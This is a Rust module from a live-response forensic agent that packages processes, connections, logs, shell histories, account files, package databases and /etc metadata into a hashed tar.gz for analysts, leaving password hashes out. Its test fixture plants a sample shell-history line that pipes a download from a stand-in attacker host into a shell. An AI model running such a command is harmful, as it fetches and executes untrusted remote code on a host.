//! `collect`: an investigation package, one `.tar.gz` with what an analyst reads first
//! (processes, connections, services, persistence, scheduled tasks, drivers as the same
//! JSON the commands give; recent logs; shell histories; accounts without their hashes;
//! installed packages; metadata of every file in /etc) and a `manifest.json` with the
//! sha256 of each entry. The executor then moves it like a getfile.
//!
//! Host files are read below the host root and bounded (logs and histories keep their
//! last bytes), so a hostile or huge file cannot blow the package up.

use std::fs;
use std::io::{Read, Seek, SeekFrom, Write};
use std::os::unix::fs::MetadataExt;
use std::path::Path;

use flate2::Compression;
use flate2::write::GzEncoder;
use liveresponse_api::command::parse_command;
use serde_json::json;
use sha2::{Digest, Sha256};

use super::hostfs::HostFs;
use crate::provider::{ExecContext, ExecError, Provider};

/// The commands whose answers go in, as `commands/NAME.json`.
const COMMANDS: &[&str] = &[
    "processes",
    "connections",
    "services",
    "persistence",
    "scheduledtasks",
    "startupfolders",
    "drivers",
];
const LOGS: &[&str] = &[
    "/var/log/syslog",
    "/var/log/messages",
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/kern.log",
    "/var/log/audit/audit.log",
];
const LOG_TAIL: u64 = 8 << 20;
const HISTORIES: &[&str] = &[
    ".bash_history",
    ".zsh_history",
    ".sh_history",
    ".ash_history",
    ".python_history",
    ".mysql_history",
    ".psql_history",
];
const HISTORY_TAIL: u64 = 4 << 20;
const PACKAGE_DBS: &[(&str, &str)] = &[
    ("/var/lib/dpkg/status", "packages/dpkg-status"),
    ("/lib/apk/db/installed", "packages/apk-installed"),
];
const PACKAGE_CAP: u64 = 64 << 20;
/// /etc entries described, and the largest file hashed.
const ETC_ENTRIES: usize = 20_000;
const ETC_HASH_CAP: u64 = 1 << 20;

struct Package<W: Write> {
    tar: tar::Builder<W>,
    manifest: Vec<serde_json::Value>,
    notes: Vec<String>,
}

impl<W: Write> Package<W> {
    fn add(&mut self, name: &str, data: &[u8]) -> Result<(), ExecError> {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(jiff::Timestamp::now().as_second().max(0) as u64);
        header.set_cksum();
        self.tar
            .append_data(&mut header, name, data)
            .map_err(|e| ExecError::Failed(format!("cannot write the package: {e}")))?;
        self.manifest.push(json!({
            "name": name,
            "size": data.len(),
            "sha256": hex::encode(Sha256::digest(data)),
        }));
        Ok(())
    }
}

/// The last `cap` bytes of a host file, and whether it was cut.
fn tail(hfs: &HostFs, device: &str, cap: u64) -> Option<(Vec<u8>, bool)> {
    let canonical = hfs.canonical(device).ok()?;
    let host = hfs.host_path(&canonical);
    let meta = fs::metadata(&host).ok()?;
    if !meta.is_file() {
        return None;
    }
    let mut f = fs::File::open(&host).ok()?;
    let cut = meta.len() > cap;
    if cut {
        f.seek(SeekFrom::Start(meta.len() - cap)).ok()?;
    }
    let mut data = Vec::new();
    f.take(cap).read_to_end(&mut data).ok()?;
    Some((data, cut))
}

/// Builds the package at `out` (written to `out.part`, then renamed, so a package that
/// exists is whole).
pub(super) fn build(
    provider: &dyn Provider,
    ctx: &ExecContext,
    out: &Path,
) -> Result<(), ExecError> {
    let part = out.with_extension("part");
    let file = fs::File::create(&part)
        .map_err(|e| ExecError::Failed(format!("cannot create {}: {e}", part.display())))?;
    let mut p = Package {
        tar: tar::Builder::new(GzEncoder::new(file, Compression::default())),
        manifest: Vec::new(),
        notes: Vec::new(),
    };
    let hfs = HostFs::of(ctx);

    for verb in COMMANDS {
        ctx.check()?;
        let answer = parse_command(verb, &[])
            .map_err(|e| ExecError::Failed(e.to_string()))
            .and_then(|inv| provider.execute(ctx, &inv));
        match answer {
            Ok(r) => {
                let body = serde_json::to_vec_pretty(&r.records).unwrap_or_default();
                p.add(&format!("commands/{verb}.json"), &body)?;
            }
            Err(e) => p.notes.push(format!("{verb}: {e}")),
        }
    }
    for log in LOGS {
        ctx.check()?;
        if let Some((data, cut)) = tail(&hfs, log, LOG_TAIL) {
            if cut {
                p.notes
                    .push(format!("{log}: only its last {LOG_TAIL} bytes"));
            }
            p.add(&format!("logs{log}"), &data)?;
        }
    }
    let accounts = super::hostfs::Accounts::load(&hfs);
    for home in accounts.homes(&hfs) {
        for name in HISTORIES {
            let device = super::hostfs::join(&home.path, name);
            if let Some((data, cut)) = tail(&hfs, &device, HISTORY_TAIL) {
                if cut {
                    p.notes
                        .push(format!("{device}: only its last {HISTORY_TAIL} bytes"));
                }
                p.add(&format!("histories/{}/{name}", home.user), &data)?;
            }
        }
    }
    ctx.check()?;
    for file in ["/etc/passwd", "/etc/group"] {
        if let Some((data, _)) = tail(&hfs, file, 4 << 20) {
            p.add(&format!("accounts{}", &file[4..]), &data)?;
        }
    }
    for (db, name) in PACKAGE_DBS {
        if let Some((data, cut)) = tail(&hfs, db, PACKAGE_CAP) {
            if cut {
                p.notes
                    .push(format!("{db}: larger than {PACKAGE_CAP} bytes, cut"));
            }
            p.add(name, &data)?;
        }
    }
    let etc = etc_metadata(&hfs, ctx, &mut p.notes)?;
    p.add(
        "etc-metadata.json",
        &serde_json::to_vec_pretty(&etc).unwrap_or_default(),
    )?;

    let manifest = json!({
        "createdAt": jiff::Timestamp::now().to_string(),
        "agentVersion": env!("CARGO_PKG_VERSION"),
        "entries": p.manifest,
        "notes": p.notes,
    });
    let body = serde_json::to_vec_pretty(&manifest).unwrap_or_default();
    // The manifest describes the others; it is not in its own list.
    let mut header = tar::Header::new_gnu();
    header.set_size(body.len() as u64);
    header.set_mode(0o644);
    header.set_mtime(jiff::Timestamp::now().as_second().max(0) as u64);
    header.set_cksum();
    p.tar
        .append_data(&mut header, "manifest.json", body.as_slice())
        .map_err(|e| ExecError::Failed(format!("cannot write the package: {e}")))?;
    let gz = p
        .tar
        .into_inner()
        .map_err(|e| ExecError::Failed(format!("cannot finish the package: {e}")))?;
    let file = gz
        .finish()
        .map_err(|e| ExecError::Failed(format!("cannot finish the package: {e}")))?;
    file.sync_all()
        .map_err(|e| ExecError::Failed(format!("cannot finish the package: {e}")))?;
    fs::rename(&part, out)
        .map_err(|e| ExecError::Failed(format!("cannot finish the package: {e}")))?;
    Ok(())
}

/// Every entry below /etc: type, size, mode, owner, modification time, and the sha256 of
/// regular files up to a size. Links are described, not followed.
fn etc_metadata(
    hfs: &HostFs,
    ctx: &ExecContext,
    notes: &mut Vec<String>,
) -> Result<Vec<serde_json::Value>, ExecError> {
    let Ok(root) = hfs.canonical("/etc") else {
        return Ok(vec![]);
    };
    let base = hfs.host_path(&root);
    let mut rows = Vec::new();
    for entry in walkdir::WalkDir::new(&base)
        .follow_links(false)
        .max_depth(8)
    {
        if rows.len() % 256 == 0 {
            ctx.check()?;
        }
        if rows.len() >= ETC_ENTRIES {
            notes.push(format!(
                "/etc: only the first {ETC_ENTRIES} entries are described"
            ));
            break;
        }
        let Ok(entry) = entry else { continue };
        let Ok(meta) = entry.path().symlink_metadata() else {
            continue;
        };
        let device = hfs.device_path(entry.path());
        let sha256 = (meta.is_file() && meta.len() <= ETC_HASH_CAP)
            .then(|| fs::read(entry.path()).ok())
            .flatten()
            .map(|b| hex::encode(Sha256::digest(&b)));
        rows.push(json!({
            "path": device,
            "type": super::hostfs::type_name(meta.file_type()),
            "size": meta.len(),
            "mode": format!("{:o}", meta.mode() & 0o7777),
            "uid": meta.uid(),
            "gid": meta.gid(),
            "mtime": meta.mtime(),
            "sha256": sha256,
        }));
    }
    Ok(rows)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::provider::linux::LinuxProvider;

    #[test]
    fn the_package_holds_what_its_manifest_lists() {
        let dir = tempfile::tempdir().expect("dir");
        let root = dir.path().join("root");
        for (p, text) in [
            ("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
            ("etc/group", "root:x:0:\n"),
            ("etc/shadow", "root:$6$secret:19000::::::\n"),
            ("var/log/auth.log", "Dec  2 sshd[1]: Accepted publickey\n"),
            ("root/.bash_history", "curl http://evil.example | sh\n"),
            ("var/lib/dpkg/status", "Package: openssh-server\n"),
        ] {
            let f = root.join(p);
            std::fs::create_dir_all(f.parent().expect("parent")).expect("dir");
            std::fs::write(f, text).expect("write");
        }
        let out = dir.path().join("pkg.tar.gz");
        build(&LinuxProvider::new(), &ExecContext::new(&root), &out).expect("built");
        let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(
            std::fs::File::open(&out).expect("open"),
        ));
        let mut entries = std::collections::BTreeMap::new();
        for e in archive.entries().expect("entries") {
            let mut e = e.expect("entry");
            let name = e.path().expect("path").to_string_lossy().into_owned();
            let mut data = Vec::new();
            e.read_to_end(&mut data).expect("read");
            entries.insert(name, data);
        }
        let manifest: serde_json::Value =
            serde_json::from_slice(&entries["manifest.json"]).expect("manifest");
        let listed = manifest["entries"].as_array().expect("entries");
        assert_eq!(
            listed.len() + 1,
            entries.len(),
            "every entry but the manifest is listed"
        );
        for m in listed {
            let name = m["name"].as_str().expect("name");
            assert_eq!(
                m["sha256"],
                hex::encode(Sha256::digest(&entries[name])),
                "{name}"
            );
        }
        for name in [
            "commands/processes.json",
            "logs/var/log/auth.log",
            "histories/root/.bash_history",
            "accounts/passwd",
            "packages/dpkg-status",
            "etc-metadata.json",
        ] {
            assert!(
                entries.contains_key(name),
                "{name} missing: {:?}",
                entries.keys()
            );
        }
        // Hashes stay on the device: no shadow file, its content nowhere.
        assert!(
            entries
                .values()
                .all(|d| !String::from_utf8_lossy(d).contains("$6$secret"))
        );
        assert!(!out.with_extension("part").exists());
    }
}
